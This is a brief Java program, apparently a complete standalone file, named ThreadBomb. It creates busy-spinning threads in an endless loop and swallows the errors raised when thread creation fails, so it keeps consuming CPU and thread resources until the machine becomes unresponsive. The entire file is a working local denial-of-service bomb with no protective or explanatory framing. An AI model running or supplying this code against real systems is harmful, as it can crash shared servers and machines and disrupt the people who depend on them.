// Spinning threads without end; failures to create one are ignored and retried.
public class ThreadBomb {
    public static void main(String[] args) {
        while (true) {
            try {
                new Thread(() -> { while (true) { Thread.onSpinWait(); } }).start();
            } catch (Throwable t) {
                // "unable to create native thread": try again
            }
        }
    }
}
